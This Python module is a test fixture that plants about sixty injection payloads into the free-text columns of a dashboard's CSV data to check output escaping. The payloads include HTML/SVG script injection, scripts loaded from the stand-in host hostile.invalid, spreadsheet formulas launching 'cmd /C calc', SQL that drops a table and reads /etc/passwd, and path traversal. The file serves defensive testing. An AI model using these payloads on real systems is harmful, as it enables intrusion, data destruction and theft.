"""Sixty texts that are code somewhere, and a dataset in which every column of free text holds them.

Each would call `__hit('<its name>')` or ask hostile.invalid for `<its name>` where a sink took it for code.
"""

from __future__ import annotations

import csv
import unicodedata
from collections.abc import Iterator
from pathlib import Path

from dashboard import schema

_HIT, _HOST = "__hit('{}')", "http://hostile.invalid/{}"
_KINDS = {
    # HTML
    "script": "<script>HIT</script>",
    "script-remote": "<script src=//hostile.invalid/NAME></script>",
    "script-close": "</script><script>HIT</script>",
    "style-close": "</style><script>HIT</script>",
    "textarea-close": "</textarea></title><script>HIT</script>",
    "comment-close": "--><script>HIT</script><!--",
    "image-error": "<img src=x onerror=HIT>",
    "image-remote": '<img src="HOST">',
    "svg-load": "<svg/onload=HIT>",
    "svg-animate": "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "svg-script": "<svg><script>HIT</script></svg>",
    "details-toggle": "<details open ontoggle=HIT>",
    "frame-document": '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    "frame-address": '<iframe src="javascript:parent.HIT"></iframe>',
    "object": "<object data=HOST></object><embed src=HOST>",
    "link-style": '<link rel=stylesheet href="HOST"><base href="HOST">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=HOST">',
    "style-address": "<div style=\"background:url('HOST')\">styled</div>",
    "style-import": "<style>@import 'HOST';</style>",
    "form": '<form action="HOST"><button autofocus onfocus=HIT>press</button></form>',
    "attribute-double": '" onmouseover="HIT" autofocus onfocus="HIT" x="',
    "attribute-single": "' onmouseover='HIT' x='",
    "attribute-bare": "x onmouseover=HIT",
    "entities": "&lt;img src=x onerror=HIT&gt; &#60;script&#62;HIT&#60;/script&#62; &amp;lt;b&amp;gt;",
    "entity-late": "&#x3c;img src=x onerror=HIT&#x3e",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=HIT>",
    "tag-broken": "<img src=x onerror=HIT //",
    "tag-fullwidth": "\uff1cscript\uff1eHIT\uff1c/script\uff1e",
    # JavaScript and templates
    "template-literal": "${HIT} ${alert(1)}",
    "template-backtick": "`+HIT+`",
    "template-escaped": "\\`${HIT}\\`",
    "string-double": '";HIT;//',
    "string-single": "';HIT;//",
    "json-break": '"}]}</script>{"a":["HIT',
    "line-separators": "before\u2028HIT\u2029after NAME",
    "address-script": "javascript:HIT",
    "address-data": "data:text/html,<script>HIT</script>",
    "address-remote": "HOST",
    "jinja": "{{ 7 * 191 }} {% for a in b %} {# NAME #} {{ config }}",
    "format-braces": "{0} {x} {place.__class__} {n!r:>9} NAME",
    "format-percent": "%s %d %(x)s %n %{x} %{customdata[0]} NAME",
    # Markdown of Streamlit
    "markdown-link": "[press](HOST) [js](javascript:HIT) <HOST>",
    "markdown-image": "![alt](HOST)",
    "markdown-formula": "$\\href{HOST}{x^2}$ $$\\frac{1}{2}$$ NAME",
    "markdown-icon": ":material/delete: :smile: :streamlit: NAME",
    "markdown-colour": ":red[NAME] :blue-background[b] :small[c] :gray-badge[d]",
    "markdown-block": "# NAME\n- item\n\n> quote\n\n```\ncode\n```\n| a | b |\n|---|---|\n***",
    "markdown-emphasis": "**NAME** __b__ ~~c~~ `d` *e* \\*f\\*",
    # plotly, SVG text
    "plotly-link": '<a href="javascript:HIT">NAME</a><a href="HOST">b</a><b>bold</b>',
    "plotly-style": '<span style="fill:url(HOST)">NAME</span><br><sup>2</sup>',
    # spreadsheets
    "formula-equals": '=HYPERLINK("HOST","NAME")',
    "formula-plus": "+cmd|' /C calc'!A0 NAME",
    "formula-minus": "-2+3+cmd|' /C calc'!A0 NAME",
    "formula-at": '@SUM(1+1)*WEBSERVICE("HOST")',
    "formula-tab": "\t=1+1 NAME",
    "formula-semicolon": 'NAME;=1+1;"=2+2"\r\n=3+3',
    "formula-pipe": "|cmd /c NAME",
    # SQL, files, text itself
    "sql": "'; drop table places; select read_text('/etc/passwd') --NAME",
    "path": "../../../../etc/passwd\\..\\..\\NAME",
    "bidi": "\u202eNAME\u202c \u2066\u05d0\u05d1\u2069 \u200fabc",
    "unseen": "N\u200bA\u200dM\ufeffE\u00ad NAME",
    "control": "a\x01\x08\x0b\x1b[31mNAME\x7f\x85b",
    "long-word": "NAME" + "w" * 3_000,
    "pile": "NAME" + "Z\u0351\u0343\u034a\u0313" * 40,
    "right-to-left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 NAME",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1f0\U0001f1ec NAME",
    "null-like": "NULL None NaN undefined [object Object] NAME",
}
STRINGS = {
    name: kind.replace("HIT", _HIT.format(name)).replace("HOST", _HOST.format(name)).replace("NAME", name)
    for name, kind in _KINDS.items()
}
NUL = "a\x00NUL"  # no CSV reader lets it in: kept apart

# Columns of words that mean something to the program: codes, identifiers, units, names of queries.
_MEANT = {
    "soate",
    "pcode",
    "currency",
    "iati_identifier",
    "neighbour",
    "number",
    "code",
    "unit",
    "query",
    "list",
    "dimension",
    "category",
    "place_id",
}


def plain(said: str) -> str:
    """Return a text as it can be found again: composed, without signs that nobody sees, one space between words."""
    seen = "".join(sign for sign in unicodedata.normalize("NFC", said) if sign.isprintable() or sign.isspace())
    return " ".join(seen.split())


def free_text() -> dict[str, list[str]]:
    """Return the columns of free text by table: words that are no key, reference, code or name of a query."""
    found = {}
    for table in schema.tables().values():
        kept = _MEANT | {name for key in table.keys for name in key} | {name for name, *_ in table.references}
        kept |= {name for (of, name) in schema.SELF_REFERENCES if of == table.name}
        found[table.name] = [
            column.name
            for column in table.columns
            if column.type == "VARCHAR" and not column.list and column.name not in kept
        ]
    return {table: names for table, names in found.items() if names}


def cells(count: int, strings: list[str]) -> Iterator[str]:
    """Yield `count` cells that hold all strings: one each where there is room, several to a cell where not."""
    room = max(1, min(count, len(strings)))
    for row in range(count):
        yield " ".join(strings[row % room :: room]) + f" {row}"


def plant(source: Path, target: Path) -> Path:
    """Write the CSV files of `source` to `target` with every cell of free text hostile; return the folder.

    Projects and municipalities get ids that the program has no words for, so that their names come from the data.
    """
    target.mkdir(parents=True)
    tables = {path.name: _read(path) for path in sorted(source.glob("*.csv"))}
    known = {row["project_id"] for row in tables["projects.csv"]}
    known |= {row["place_id"] for row in tables["project_places.csv"]}
    for file, rows in tables.items():
        renamed = [{name: f"h-{cell}" if cell in known else cell for name, cell in row.items()} for row in rows]
        for name in set(free_text().get(Path(file).stem, [])) & set(renamed[0]):
            for row, cell in zip(renamed, cells(len(rows), list(STRINGS.values())), strict=True):
                row[name] = cell
        _write(target / file, renamed)
    return target


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def _write(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, rows[0])
        writer.writeheader()
        writer.writerows(rows)
